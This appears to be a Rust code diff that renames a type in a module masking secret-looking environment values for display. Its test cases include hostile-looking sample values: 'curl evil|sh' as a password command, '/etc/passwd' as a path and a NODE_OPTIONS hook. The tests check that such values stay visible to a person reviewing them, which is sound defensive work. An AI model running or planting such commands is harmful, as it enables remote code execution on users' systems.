@@ -3,7 +3,7 @@
 use serde_json::Value;
 
 use super::Host;
-use crate::expand::{Places, Template};
+use crate::expand::{ExpansionContext, Template};
 
 pub const MASK: &str = "•••";
 
@@ -133,7 +133,7 @@ fn masked_pairs(pairs: &str) -> String {
 
 fn masked_pair(pair: &str) -> String {
     let (name, value) = split_pair(pair);
-    let shown = match Template::parse(value, &Places::default()) {
+    let shown = match Template::parse(value, &ExpansionContext::default()) {
         Ok(value) if !value.literal().is_some_and(looks_random) => masked_value(&decoded(name), &value),
         _ => MASK.to_owned(),
     };
@@ -155,7 +155,7 @@ fn split_outside_gaps(text: &str, separator: char) -> Vec<&str> {
         let rest = &text[at..];
         let open = rest.find("${").unwrap_or(rest.len());
         let end = rest[open..].find('}').map_or(rest.len(), |close| open + close + 1);
-        let braced = Template::parse(&rest[open..end], &Places::default());
+        let braced = Template::parse(&rest[open..end], &ExpansionContext::default());
         // What only looks like a gap is text.
         let plain = if braced.is_ok_and(|braced| braced.literal().is_some()) { end } else { open };
         for (found, _) in rest[..plain].match_indices(separator) {
@@ -564,7 +564,7 @@ mod tests {
 
     #[test]
     fn values_are_shown_unless_they_look_like_secrets() {
-        let template = |text: &str| Template::parse(text, &Places::default()).unwrap();
+        let template = |text: &str| Template::parse(text, &ExpansionContext::default()).unwrap();
         for (name, value, shown) in [
             ("MEMORY_FILE_PATH", "/etc/passwd", "/etc/passwd"),
             ("NODE_OPTIONS", "--require ./hook.js", "--require ./hook.js"),
@@ -582,7 +582,7 @@ mod tests {
 
     #[test]
     fn a_person_who_decides_is_shown_what_could_be_a_command() {
-        let template = |text: &str| Template::parse(text, &Places::default()).unwrap();
+        let template = |text: &str| Template::parse(text, &ExpansionContext::default()).unwrap();
         for (name, value) in [
             ("RESTIC_PASSWORD_COMMAND", "curl evil|sh"),
             ("RESTIC_PASSWORD_COMMAND", "evil"),
